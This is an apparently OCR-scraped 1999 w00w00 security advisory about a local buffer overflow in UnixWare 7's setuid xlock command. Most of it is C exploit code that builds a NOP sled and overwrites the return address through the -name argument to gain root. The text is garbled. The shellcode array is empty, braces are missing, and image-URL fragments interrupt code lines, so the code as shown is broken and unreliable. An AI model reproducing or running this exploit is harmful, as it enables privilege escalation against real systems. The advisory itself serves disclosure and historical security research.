Subject: [w00giving '99 #7] UnixWare 7's xlock

w00w00 Security Development (WSD)

Discovered by: K2 ([email protected])

The xlock command on SCO's UnixWare 7 has improper bounds checking on the
username passed (via argv[1]), which can cause a buffer overflow when
a lengthy username is passed.

Exploit (by K2):

// UnixWare7 /usr/bin/xlock local, K2, revisited Oct-30-1999
#include <unistd.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

char shell[] =

#define SIZE 1200
#define NOPDEF 601#define DEFOFF -400

const char x86_nop=0x90;
long nop=NOPDEF,esp;
long offset=DEFOFF;
char buffer[SIZE];

long get_esp() { __asm__("movl %esp,%eax"); }int main (int argc, char *argv[])
    register int i;

    if (argc > 1) offset += strtol(argv[1], NULL, 0);
    if (argc > 2) nop += strtoul(argv[2], NULL, 0);
    esp = get_esp();

    memset(buffer, x86_nop, SIZE);
    memcpy(buffer+nop, shell, strlen(shell));

    for (i = nop+strlen(shell); i < SIZE-4; i += 4)
        *((int *) &buffer[i]) =esp+offset;

    printf("jmp = [0x%x]\toffset = [%d]\n",esp+offset,offset);
    execl("/usr/X/bin/xlock", "xlock", "-name", buffer, NULL);

    printf("execfailed!\n");
    return 0;


As stated in the previous advisory, wait for SCO to release a patch.
Because of the /var/sadm permissions
vulnerability we published earlier hasn't been fixed yet, be sure you
take off suid privileges on the backed up binary! =)

Hellos to the usuals

Back to Advisories
Back to w00w00 webpage